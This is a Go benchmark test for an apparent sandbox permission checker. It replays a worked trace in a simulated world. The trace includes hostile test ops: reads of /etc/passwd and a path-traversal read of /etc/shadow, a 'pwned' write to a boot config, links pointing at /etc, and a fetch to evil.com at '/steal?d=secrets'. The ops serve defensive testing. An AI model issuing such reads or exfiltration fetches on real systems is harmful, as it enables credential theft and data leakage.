package core

import "testing"

// seedTraceOps are the first seven ops of the SPEC §10 worked trace.
var seedTraceOps = []Op{
	{OpRead, []string{"/work/data.txt"}},
	{OpRead, []string{"/etc/passwd"}},
	{OpRead, []string{"/work/../etc/shadow"}},
	{OpWrite, []string{"/work/out/report.txt", "done"}},
	{OpWrite, []string{"/system/boot.cfg", "pwned"}},
	{OpFetch, []string{"api.internal", "/status"}},
	{OpFetch, []string{"evil.com", "/steal?d=secrets"}},
}

// BenchmarkSeedTrace runs the worked trace's first seven ops round-robin on
// one sandbox whose budgets never halt: the throughput anchor compared with
// ../shared/bench/seed_miniature.py.
func BenchmarkSeedTrace(b *testing.B) { benchSeedTrace(b, nil) }

// BenchmarkSeedTraceLinked is BenchmarkSeedTrace over a world with links
// (none on the trace's paths, so the results are the same): what the
// resolution step of SPEC §13 costs when a world has links to walk.
func BenchmarkSeedTraceLinked(b *testing.B) {
	benchSeedTrace(b, []Link{{"/work/l", "/etc/passwd"}, {"/work/out/d", "../../etc"}, {"/work/loop", "loop"}})
}

func benchSeedTrace(b *testing.B, links []Link) {
	g := MustGrant(GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"},
		NetHosts: []string{"api.internal"}, Tools: []string{"summarize"},
		Budgets: Budgets{MaxOps: 1 << 62, MaxWall: 1 << 62, MaxOutputBytes: 1 << 62},
	})
	w := NewWorld(WorldSpec{
		Files:  []File{{"/work/data.txt", "hello"}},
		Routes: []Route{{"api.internal", "/status", "ok"}},
		Links:  links,
		Clock:  TickClock{Start: 0, Step: 1},
	})
	s := NewReference(g, w)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k := i % len(seedTraceOps)
		if r := s.Run(seedTraceOps[k]); r.Kind == Invalid {
			b.Fatal("no verdict")
		}
		if k == 0 && w.JournalLen() > 4096 {
			w.ResetJournal()
		}
	}
}
